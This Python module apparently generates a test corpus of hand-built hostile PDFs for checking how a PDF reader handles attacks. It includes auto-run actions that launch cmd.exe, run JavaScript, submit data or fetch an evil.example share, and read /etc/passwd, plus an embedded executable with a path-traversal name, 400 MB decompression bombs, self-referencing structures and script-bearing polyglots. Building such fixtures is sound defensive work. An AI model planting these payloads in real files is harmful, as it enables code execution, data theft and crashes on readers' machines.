"""PDF files that attack their reader, built by hand: no library would write them."""

from __future__ import annotations

import random
import zlib
from collections.abc import Iterator

PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<<>>/Contents 4 0 R>>"
TEXT = b"BT /F1 12 Tf 72 700 Td (hostile) Tj ET"
BIG = 400 * 2**20


def stream(data: bytes, more: bytes = b"") -> bytes:
    """A stream object."""
    return b"<<" + more + b"/Length %d>>stream\n%s\nendstream" % (len(data), data)


def squeezed(size: int, pattern: bytes = b"0 ") -> bytes:
    """Very many bytes in few."""
    packer, piece = zlib.compressobj(9), pattern * (2**20 // len(pattern))
    return b"".join([*(packer.compress(piece) for _ in range(size // 2**20)), packer.flush()])


def pdf(objects: dict[int, bytes], trailer: bytes = b"", *, prev: int | None = None, start: int | None = None) -> bytes:
    """A file with a right table of these objects (1 is the catalogue)."""
    out, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, place in places.items():
        out += b"%d 1\n%010d 00000 n \n" % (number, place)
    loop = b"/Prev %d" % (table if prev == -1 else prev) if prev is not None else b""
    out += b"trailer\n<</Size %d/Root 1 0 R%s%s>>\n" % (max(objects) + 1, loop, trailer)
    return out + b"startxref\n%d\n%%%%EOF\n" % (table if start is None else start)


def plain(
    *, catalogue: bytes = b"", page: bytes = PAGE, content: bytes | None = None, more: dict[int, bytes] | None = None
) -> dict[int, bytes]:
    """The objects of one page, each of which may be replaced."""
    return {
        1: b"<</Type/Catalog/Pages 2 0 R" + catalogue + b">>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: page,
        4: stream(TEXT) if content is None else content,
        **(more or {}),
    }


ACTIONS = {
    "javascript": b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>",
    "launch": b"/OpenAction<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>",
    "address": b"/OpenAction<</S/URI/URI(http://evil.example/)>>",
    "submit": b"/OpenAction<</S/SubmitForm/F(http://evil.example/)>>",
    "import": b"/OpenAction<</S/ImportData/F(/etc/passwd)>>",
    "remote": b"/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\x)/D[0/Fit]>>",
    "names": b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(x\\(\\))>>]>>>>",
    "later": b"/AA<</WC<</S/JavaScript/JS(x\\(\\))>>/WS<</S/JavaScript/JS(y\\(\\))>>>>",
    "embedded": b"/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(../../a.exe)/EF<</F 4 0 R>>>>]>>>>",
    "xfa": b"/AcroForm<</XFA 4 0 R/Fields[]>>",
    "endless outline": b"/Outlines<</First 1 0 R/Last 1 0 R/Count 2147483647>>",
    "metadata": b"/Metadata 1 0 R",
}
BOXES = (
    "0 0 1e9 1e9",
    "0 0 14400 14400",
    "0 0 0 0",
    "0 0 -1 -1",
    "1e38 1e38 -1e38 -1e38",
    "a b c d",
    "0 0 100000 1",
    "0 0 5000 5000",
)
FILTERS = (
    b"/Filter[%s]" % (b"/FlateDecode" * 50),
    b"/Filter/LZWDecode",
    b"/Filter/RunLengthDecode",
    b"/Filter/ASCII85Decode",
    b"/Filter/JBIG2Decode",
    b"/Filter/JPXDecode",
    b"/Filter/DCTDecode",
    b"/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 1000000000/Rows 1000000000>>",
    b"/Filter/Crypt",
    b"/Filter/Nothing",
    b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2147483647/Colors 32>>",
    b"/F(/etc/passwd)",
)


def _trees() -> Iterator[tuple[str, bytes]]:
    yield "pages that are their own parent", pdf(plain() | {2: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"})
    yield (
        "pages in a circle",
        pdf(plain() | {2: b"<</Type/Pages/Kids[5 0 R]/Count 1>>", 5: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"}),
    )
    yield "a million pages promised", pdf(plain() | {2: b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>"})
    yield (
        "one page ten thousand times",
        pdf(plain() | {2: b"<</Type/Pages/Kids[" + b"3 0 R " * 10_000 + b"]/Count 10000>>"}),
    )
    yield "no pages", pdf(plain() | {2: b"<</Type/Pages/Kids[]/Count 0>>"})
    yield "deep arrays", pdf(plain(catalogue=b"/X" + b"[" * 100_000))
    yield "deep dictionaries", pdf(plain(catalogue=b"/X" + b"<</X" * 50_000))
    yield "a catalogue that points at itself", pdf({1: b"1 0 R"})
    yield "a length that points at itself", pdf(plain(content=b"<</Length 4 0 R>>stream\nx\nendstream"))
    yield "a negative length", pdf(plain(content=b"<</Length -1>>stream\nx\nendstream"))
    yield "a length beyond the end", pdf(plain(content=b"<</Length 99999999999>>stream\nx\nendstream"))


def _tables() -> Iterator[tuple[str, bytes]]:
    yield "a table before itself", pdf(plain(), prev=-1)
    for place in (0, 1, 10, 99999999, -5):
        yield f"a table before at {place}", pdf(plain(), prev=place)
        yield f"a table at {place}", pdf(plain(), start=place)
    yield "a size without end", pdf(plain(), b"/Size 9999999999")
    table = stream(
        zlib.compress(b"\1\0\0" * 1000),
        b"/Type/XRef/W[1 1 1]/Size 2147483647/Index[0 2147483647]/Root 1 0 R/Filter/FlateDecode",
    )
    yield "a table as a stream", pdf(plain(more={9: table}), b"/XRefStm 15")
    inside = stream(squeezed(BIG), b"/Type/ObjStm/N 100000000/First 10/Filter/FlateDecode")
    yield "objects in a bomb", pdf(plain(more={9: inside}))
    yield "encrypted", pdf(plain(), b"/Encrypt<</Filter/Standard/V 5/R 6/Length 256/O(x)/U(y)/P -1>>/ID[(a)(b)]")
    yield "encrypted by nobody", pdf(plain(), b"/Encrypt<</Filter/Nobody>>")


def _contents() -> Iterator[tuple[str, bytes]]:
    bomb = stream(squeezed(BIG), b"/Filter/FlateDecode")
    yield "a bomb of numbers", pdf(plain(content=bomb))
    yield "a bomb of texts", pdf(plain(content=stream(squeezed(BIG, b"(x)Tj "), b"/Filter/FlateDecode")))
    yield "a bomb of states", pdf(plain(content=stream(squeezed(BIG // 4, b"q "), b"/Filter/FlateDecode")))
    yield "ends without beginnings", pdf(plain(content=stream(b"Q " * 1000)))
    yield "open strings", pdf(plain(content=stream(b"(" * 200_000)))
    yield "open arrays", pdf(plain(content=stream(b"[" * 200_000)))
    yield "an inline picture", pdf(plain(content=stream(b"BI /W 100000 /H 100000 /BPC 8 /CS /RGB ID x EI")))
    page = PAGE.replace(b"<<>>", b"<</XObject<</A 5 0 R>>/Font<</F1 6 0 R>>>>")
    form = stream(b"/A Do /A Do", b"/Type/XObject/Subtype/Form/BBox[0 0 1 1]/Resources<</XObject<</A 5 0 R>>>>")
    yield "a form that draws itself", pdf(plain(page=page, content=stream(b"/A Do"), more={5: form}))
    for width, height in ((100_000, 100_000), (2**31 - 1, 1), (1, 2**31 - 1), (65_535, 65_535)):
        picture = stream(
            b"x",
            b"/Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent 8/ColorSpace/DeviceRGB" % (width, height),
        )
        draw = stream(b"q 595 0 0 842 0 0 cm /A Do Q")
        yield f"a picture of {width} × {height}", pdf(plain(page=page, content=draw, more={5: picture}))
    for name, body in (
        ("without end", b"1 beginbfrange <0000> <FFFFFFFF> <0041> endbfrange"),
        ("of nothing", b"1 beginbfrange <> <> <> endbfrange"),
        ("of half characters", b"1 beginbfchar <0001> <D800> endbfchar"),
        ("a hundred thousand times", b"1 beginbfrange <0000> <FFFF> <0041> endbfrange " * 20_000),
    ):
        font = b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/ToUnicode 7 0 R>>"
        yield f"a font with a table {name}", pdf(plain(page=page, more={6: font, 7: stream(body)}))


def _polyglots() -> Iterator[tuple[str, bytes]]:
    good = pdf(plain())
    for name, head in (
        ("html", b"<html><script>hostile()</script><!--"), ("gif", b"GIF89a/*"), ("zip", b"PK\3\4" + b"\0" * 26),
        ("jpeg", b"\xff\xd8\xff\xfe\x03\xfc"), ("shell", b"#!/bin/sh\nexit\n"), ("exe", b"MZ" + b"\0" * 60), ("svg", b"<svg onload=hostile()>"),
    ):  # fmt: skip
        yield f"{name} before a PDF", head + good
        yield f"{name} after a PDF", good + head
    yield "a thousand bytes before a PDF", b" " * 1000 + good
    yield "two PDFs", good + good
    yield "a PDF in a comment", b"%PDF-1.7\n%" + good


def all_pdfs(seed: int) -> Iterator[tuple[str, bytes]]:
    """Every hostile PDF with its name; those with random wounds follow from the seed."""
    for name, action in ACTIONS.items():
        yield f"action {name}", pdf(plain(catalogue=action))
    for box in BOXES:
        yield f"box {box}", pdf(plain(page=PAGE.replace(b"0 0 595 842", box.encode())))
    for number, one in enumerate(FILTERS):
        yield f"filter {number}", pdf(plain(content=stream(b"x" * 100, one)))
    for group in (_trees, _tables, _contents, _polyglots):
        yield from group()
    yield from _wounded(seed)


def _wounded(seed: int) -> Iterator[tuple[str, bytes]]:
    good, draw = pdf(plain()), random.Random(seed)
    for part in range(1, 16):
        yield f"torn at {part}/16", good[: len(good) * part // 16]
    for number in range(20):
        wounded = bytearray(good)
        for _ in range(1 + number):
            wounded[draw.randrange(len(wounded))] = draw.randrange(256)
        yield f"wounded {number}", bytes(wounded)
    for number, magic in enumerate((b"%PDF-9.9", b"%PDF-", b"%!PS-Adobe-3.0", b"%FDF-1.2", b"\0PDF-1.7")):
        yield f"magic {number}", magic + good[8:]
